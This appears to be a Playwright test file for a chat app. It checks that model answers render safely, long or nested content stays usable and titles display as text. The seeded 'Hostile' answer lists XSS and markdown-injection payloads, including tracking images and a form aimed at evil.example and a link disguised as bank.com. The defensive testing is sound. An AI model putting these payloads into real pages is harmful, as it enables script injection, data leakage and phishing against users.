import { ask, parts } from './chat-steps.ts'
import { expect, test } from './fixtures.ts'
import { seedChat } from './seed.ts'

const hostile = [
  '<script>window.owned = 1</script>',
  '<img src=x onerror="window.owned = 1">',
  '<svg onload="window.owned = 1"></svg>',
  '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
  '<style>* { display: none }</style>',
  '[press me](javascript:window.owned=1)',
  '[press me](data:text/html,<script>1</script>)',
  '![a picture](https://evil.example/pixel.png?secret=1)',
  '[![a badge](https://evil.example/badge.svg)](https://evil.example/from-badge)',
  '![a picture](data:image/png;base64,PGh0bWw+)',
  '![a picture](data:image/svg+xml,<svg onload="window.owned=1"/>)',
  '<form action="https://evil.example"><input autofocus></form>',
  '| <img src=x onerror="window.owned=1"> |\n|---|\n| [x](javascript:window.owned=1) |',
  '```html\n<script>window.owned = 1</script>\n```',
  '<a href="javascript:window.owned=1">press</a>',
  '[bank.com](https://evil.example/)',
].join('\n\n')

test.describe('what a model writes', () => {
  test.beforeEach(({ home }) => {
    seedChat(home, 'Hostile', ['Do your worst', hostile])
    seedChat(home, 'Deep', ['?', '>'.repeat(5000), '?', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')])
    seedChat(home, 'Wide', ['?', 'word'.repeat(250_000), '?', `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(20_000)}`])
    seedChat(home, '<b>Bold</b> & "quoted"', ['<i>?</i>', 'Yes'])
  })

  test('runs nothing, loads nothing and leads nowhere it does not say', async ({ fusion }) => {
    await parts(fusion).chats.getByRole('button', { name: 'Hostile', exact: true }).click()
    const answer = parts(fusion).answers
    await expect(answer).toContainText('<script>window.owned = 1</script>')
    for (const link of await answer.getByText('press me').all()) await link.click()
    const found = await answer.evaluate(element => ({
      elements: ['script', 'img', 'svg[onload]', 'iframe', 'style', 'form', 'input'].filter(name => element.querySelector(name)),
      links: [...element.querySelectorAll('a')].map(link => link.href),
      owned: 'owned' in window,
    }))
    expect(found).toEqual({
      elements: [],
      links: [
        'https://evil.example/pixel.png?secret=1',
        'https://evil.example/from-badge',
        'https://evil.example/badge.svg',
        'https://evil.example/',
      ],
      owned: false,
    })
    await expect(answer).toContainText('bank.com (evil.example)')
    // The fixture sees every request: there was none to anywhere else.
  })

  test('may be as deep and as wide as it likes: the page goes on', async ({ fusion }) => {
    for (const title of ['Deep', 'Wide']) {
      await parts(fusion).chats.getByRole('button', { name: title, exact: true }).click()
      await expect(parts(fusion).answers.last()).toBeVisible()
      expect(await fusion.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true)
    }
    await expect(fusion.getByRole('button', { name: 'Show 500 more rows of 19,900' })).toBeVisible()
    await ask(fusion, 'hello')
  })

  test('and a title are text in every place', async ({ fusion }) => {
    const title = '<b>Bold</b> & "quoted"'
    await parts(fusion).chats.getByRole('button', { name: title, exact: true }).click()
    await expect(fusion.getByRole('heading', { level: 1 })).toHaveText(title)
    await expect(parts(fusion).questions).toContainText('<i>?</i>')
    await fusion.keyboard.press('Control+k')
    await fusion.getByRole('combobox', { name: 'Search everything' }).fill('bold')
    await expect(fusion.getByRole('option').first()).toContainText(title)
  })
})
